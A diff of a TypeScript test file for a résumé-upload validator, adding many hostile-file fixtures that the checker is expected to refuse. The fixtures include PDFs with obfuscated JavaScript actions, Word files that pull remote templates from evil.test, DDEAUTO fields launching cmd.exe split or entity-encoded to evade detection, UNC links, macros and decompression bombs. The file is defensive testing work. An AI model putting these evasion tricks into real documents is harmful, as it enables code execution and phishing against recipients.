@@ -1,6 +1,13 @@
 import { expect, test } from 'vitest'
 import { resumeFileSchema } from '#contract/resumes.schema.ts'
-import { type ResumeRefusal, type ResumeType, resumeBytes, resumeMessages, resumeRefusals } from '#contract/resumes.ts'
+import {
+  type ResumeRefusal,
+  type ResumeType,
+  resumeBytes,
+  resumeMessages,
+  resumeRefusals,
+  resumeTypes,
+} from '#contract/resumes.ts'
 import { refusalOf } from './resume-check.ts'
 import { macroTypes, makeDocx, makePdf, makeZip, packedObjects, sheetTypes } from './test-resumes.ts'
 
@@ -10,6 +17,8 @@ const relation = (type: string, target: string, mode = 'External') => ({
 })
 const zeros = Buffer.alloc(8 * 1024 * 1024)
 const text = (words: string) => Buffer.from(words)
+const field = (...instructions: string[]) => `<w:p>${instructions.map((text) => `<w:r>${text}</w:r>`).join('')}</w:p>`
+const instruction = (text: string) => `<w:instrText xml:space="preserve">${text}</w:instrText>`
 
 test.each<[what: string, type: ResumeType, bytes: Buffer]>([
   ['a PDF', 'pdf', makePdf()],
@@ -31,15 +40,45 @@ test.each<[what: string, type: ResumeType, bytes: Buffer]>([
     makeDocx({ more: [{ name: 'word/media/image1.png', content: text('\x89PNG'), method: 0 }] }),
   ],
   [
+    'a Word document with fields',
+    'docx',
+    makeDocx({
+      body: field(
+        '<w:fldChar w:fldCharType="begin"/>',
+        instruction(' HYPER'),
+        instruction('LINK "https://hi'),
+        instruction('dden.test/dde" '),
+        '<w:fldChar w:fldCharType="separate"/>',
+        '<w:t>2 &lt; 3 &amp; 4 > 1</w:t>',
+        '<w:fldChar w:fldCharType="end"/>',
+      ),
+    }),
+  ],
+  [
+    'a PDF with a picture that unpacks to hundreds of megabytes',
+    'pdf',
+    makePdf({
+      objects: Array.from({ length: 8 }, () =>
+        packedObjects(zeros.toString('latin1'), { type: '/Subtype /Image', entries: '' }),
+      ),
+    }),
+  ],
+  [
+    'a PDF of a printer that numbers the streams of its colors',
+    'pdf',
+    makePdf({ objects: ['4 0 obj << /N 3 /Length 1 >>\rstream\r\nx\nendstream endobj'] }),
+  ],
+  [
     'a Word document that speaks of DDE and macros',
     'docx',
     makeDocx({ body: '<w:t>DDE "x", vbaProject, INCLUDETEXT</w:t>' }),
   ],
-])('%s may be kept', async (_, type, bytes) => {
-  expect(await refusalOf(bytes, type)).toBeUndefined()
+])('%s may be kept', (_, type, bytes) => {
+  expect(refusalOf(bytes, type)).toBeUndefined()
 })
 
 const action = (type: string) => `5 0 obj << /Type /Action ${type} >> endobj`
+const script = '8 0 << /S /JavaScript /JS (1) >>'
 const hostile: [what: string, type: ResumeType, bytes: Buffer, refusal: ResumeRefusal][] = [
   ['a program', 'pdf', text('MZ\x90\0This program cannot be run'), 'notPdf'],
   ['a web page', 'pdf', text('<html><script>alert(1)</script></html>'), 'notPdf'],
@@ -167,6 +206,52 @@ const hostile: [what: string, type: ResumeType, bytes: Buffer, refusal: ResumeRe
     makePdf({ objects: Array.from({ length: 8 }, () => packedObjects(zeros.toString('latin1'))) }),
     'pdfUnusual',
   ],
+  [
+    'a PDF with a packed script behind a comment that speaks of streams',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: '% stream\n/Filter /FlateDecode' })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script far behind its dictionary',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: `/Filter /FlateDecode /Note (${'x'.repeat(5_000)})` })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script that is not called so',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { type: '' })] }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script behind a dictionary with brackets in a text',
+    'pdf',
+    makePdf({
+      objects: [
+        packedObjects(script, { dictionary: '/A (>> \\) stream ( )) /B << /C <3e3e> >> /Filter [/Fl#61teDecode]' }),
+      ],
+    }),
+    'pdfActive',
+  ],
+  [
+    'a PDF with a packed script in a short form',
+    'pdf',
+    makePdf({ objects: [packedObjects(script, { dictionary: '/F /Fl' })] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a packed name of an action',
+    'pdf',
+    makePdf({ objects: [packedObjects('8 0 9 20 << /S 9 0 R /JS (1) >> /JavaScript')] }),
+    'pdfUnusual',
+  ],
+  [
+    'a PDF with a script behind a percent sign in a text',
+    'pdf',
+    makePdf({ objects: [action('/Note (100%) /S /JavaScript /JS (1)')] }),
+    'pdfActive',
+  ],
 
   ['an older Word file', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldWord'],
   ['a PDF called Word', 'docx', makePdf(), 'notDocx'],
@@ -267,6 +352,120 @@ const hostile: [what: string, type: ResumeType, bytes: Buffer, refusal: ResumeRe
     'docxOutside',
   ],
   [
+    'a template from elsewhere, written in numbers',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', '&#69;xtern&#x61;l')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere behind a bracket in a value',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/?>')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere that says it is a part',
+    'docx',
+    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm', 'Internal')] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere in a part of another name',
+    'docx',
+    makeDocx({ more: [{ ...relation('attachedTemplate', 'https://evil.test/t.dotm'), name: 'word/_rels/a.png' }] }),
+    'docxOutside',
+  ],
+  [
+    'a template from elsewhere, in big-endian UTF-16',
+    'docx',
+    makeDocx({
+      more: [
+        {
+          ...relation('attachedTemplate', ''),
+          content: Buffer.from(
+            `\ufeff${relation('attachedTemplate', 'https://evil.test').content}`,
+            'utf16le',
+          ).swap16(),
+        },
+      ],
+    }),
+    'docxOutside',
+  ],
+  [
+    'an object by its relation',
+    'docx',
+    makeDocx({
+      more: [relation('oleObject', 'media/a.bin', 'Internal'), { name: 'word/media/a.bin', content: 'x', method: 0 }],
+    }),
+    'docxEmbedded',
+  ],
+  [
+    'a field that starts a program, in two pieces',
+    'docx',
+    makeDocx({ body: field(instruction(' DD'), instruction('EAUTO c:\\\\cmd.exe "/k calc"')) }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, in pieces over two paragraphs',
+    'docx',
+    makeDocx({
+      body: field(instruction('D')) + field('<w:fldChar w:fldCharType="x"/>', instruction('<![CDATA[DE]]>&#32;x')),
+    }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, written in numbers',
+    'docx',
+    makeDocx({ body: '<w:fldSimple w:instr="&#68;DEAUTO c:\\\\cmd.exe"/>' }),
+    'docxOutside',
+  ],
+  [
+    'a field that starts a program, by another prefix',
+    'docx',
+    makeDocx({ body: '<x:instrText xmlns:x="w">DDEAUTO c:\\\\cmd.exe</x:instrText>' }),
+    'docxOutside',
+  ],
+  [
+    'a field whose name another field makes',
+    'docx',
+    makeDocx({
+      body: field(
+        '<w:fldChar w:fldCharType="begin"/>',
+        '<w:fldChar w:fldCharType="begin"/>',
+        instruction('QUOTE 68 68 69'),
+        '<w:fldChar w:fldCharType="end"/>',
+        instruction(' c:\\\\cmd.exe'),
+        '<w:fldChar w:fldCharType="end"/>',
+      ),
+    }),
+    'docxOutside',
+  ],
+  [
+    'a link to a file that is shown',
+    'docx',
+    makeDocx({
+      body: field('<w:fldChar w:fldCharType="begin"/>', instruction(' LINK Excel.Sheet "\\\\evil.test\\x"')),
+    }),
+    'docxOutside',
+  ],
+  [
+    'macros, written in numbers',
+    'docx',
+    makeDocx({
+      types: macroTypes
+        .replace('</Types>', `<Override ContentType="${resumeTypes.docx}.main+xml"/></Types>`)
+        .replace('macroE', 'macro&#69;'),
+    }),
+    'docxMacros',
+  ],
+  [
+    'a part in a rare encoding',
+    'docx',
+    makeDocx({ more: [{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }] }),
+    'docxUnusual',
+  ],
+  ['a part that does not end', 'docx', makeDocx({ more: [{ name: 'word/a.xml', content: '<x a="' }] }), 'docxUnusual'],
+  [
     'a bomb',
     'docx',
     makeDocx({ more: Array.from({ length: 8 }, (_, at) => ({ name: `word/media/${at}.bmp`, content: zeros })) }),
@@ -326,13 +525,16 @@ function withComment(zip: Buffer, length: number): Buffer {
   return Buffer.concat([zip, Buffer.alloc(length, ' ')])
 }
 
-test.each(hostile)('%s (%s) is refused', async (_, type, bytes, refusal) => {
-  expect(await refusalOf(bytes, type)).toBe(refusal)
+test.each(hostile)('%s (%s) is refused', (_, type, bytes, refusal) => {
+  expect(refusalOf(bytes, type)).toBe(refusal)
 })
 
 test('there are more than forty of them, and each has a sentence that says what to do', () => {
   expect(hostile.length).toBeGreaterThanOrEqual(40)
-  expect(new Set(hostile.map(([, , , refusal]) => refusal))).toEqual(new Set(Object.keys(resumeRefusals)))
+  const tooMuch = ['pdfTooMuch', 'docxTooMuch']
+  expect(new Set([...hostile.map(([, , , refusal]) => refusal), ...tooMuch])).toEqual(
+    new Set(Object.keys(resumeRefusals)),
+  )
   for (const sentence of Object.values(resumeRefusals)) expect(sentence).toMatch(/ Please .+\.$/)
 })
 
@@ -344,6 +546,9 @@ test.each([
   ['cv.docm', resumeMessages.type],
   ['cv.pdf.exe', resumeMessages.type],
   ['cv', resumeMessages.type],
+  ['cv.constructor', resumeMessages.type],
+  ['cv.__proto__', resumeMessages.type],
+  ['cv.toString', resumeMessages.type],
   ['', resumeMessages.type],
   ['../../etc/cv.pdf', resumeMessages.name],
   ['C:\\cv.pdf', resumeMessages.name],
@@ -365,13 +570,49 @@ test('a file has something in it, and at most five megabytes', () => {
   expect(messageFor(resumeBytes + 1)).toBe(resumeMessages.tooLarge)
 })
 
-test('five megabytes are looked through in less than half a second', async () => {
+const filled = (bytes: number, unit: string) => unit.repeat(Math.floor(bytes / unit.length))
+const inPdf = (unit: string) => (bytes: number) => makePdf({ objects: [filled(bytes - 1_000, unit)] })
+const inWord = (unit: string) => (bytes: number) =>
+  makeDocx({ more: [{ name: 'word/a.xml', content: filled(bytes, unit) }] })
+const kilobyte = 1024
+
+/** Twice the size takes twice the time, also for what is made to take longer. */
+test.each<[what: string, type: ResumeType, make: (bytes: number) => Buffer, largest: number]>([
+  ['`/S%`', 'pdf', inPdf('/S%'), resumeBytes],
+  ['`/S%` and lines', 'pdf', inPdf('/S%/S%\n%\n%\n'), resumeBytes],
+  ['`/ObjStm`', 'pdf', inPdf('/ObjStm '), resumeBytes],
+  ['`/Encrypt 1 0`', 'pdf', inPdf('/Encrypt 1 0 '), resumeBytes],
+  ['texts that do not end', 'pdf', inPdf('/S ( '), resumeBytes],
+  ['dictionaries that do not end', 'pdf', inPdf('1 0 obj<<('), resumeBytes],
+  ['objects that are comments', 'pdf', inPdf('obj%'), resumeBytes],
+  ['dictionaries', 'pdf', inPdf('1 0 obj<</N 1>>stream\n'), resumeBytes],
+  ['packed `/S%`', 'pdf', (bytes) => makePdf({ objects: [packedObjects(filled(bytes, '/S%'))] }), 8 * resumeBytes],
+  ['`<`', 'docx', inWord('<'), 8 * resumeBytes],
+  ['`<a `', 'docx', inWord('<a '), 8 * resumeBytes],
+  ['`<w:instrText`', 'docx', inWord('<w:instrText '), 8 * resumeBytes],
+  ['elements', 'docx', inWord('<a b="c"/>'), 2 * resumeBytes],
+  ['blank fields', 'docx', inWord('<w:instrText> </w:instrText>'), 2 * resumeBytes],
+  ['fields', 'docx', inWord('<w:instrText>D</w:instrText>'), 2 * resumeBytes],
+  ['numbers', 'docx', inWord('<a instr="&#68;"/>'), 2 * resumeBytes],
+])('%s in any number take their size (%s)', (_, type, make, largest) => {
+  const spend = (bytes: number) => {
+    const file = make(bytes)
+    const started = process.threadCpuUsage()
+    refusalOf(file, type)
+    return process.threadCpuUsage(started).user / 1_000
+  }
+  for (let bytes = 40 * kilobyte; bytes < largest / 2; bytes *= 2) expect(spend(bytes), `${bytes}`).toBeLessThan(2_000)
+  const half = spend(largest / 2)
+  expect(spend(largest)).toBeLessThan(3 * half + 300)
+})
+
+test('five megabytes are looked through in less than half a second', () => {
   const page = Buffer.concat([
     text('7 0 obj << /Length 1 >> stream\n'),
     Buffer.alloc(resumeBytes - 600, '/S ( '),
     text('\nendstream endobj'),
   ])
   const started = process.threadCpuUsage()
-  expect(await refusalOf(makePdf({ objects: [page] }), 'pdf')).toBeUndefined()
+  expect(refusalOf(makePdf({ objects: [page] }), 'pdf')).toBeUndefined()
   expect(process.threadCpuUsage(started).user).toBeLessThan(500_000)
 })
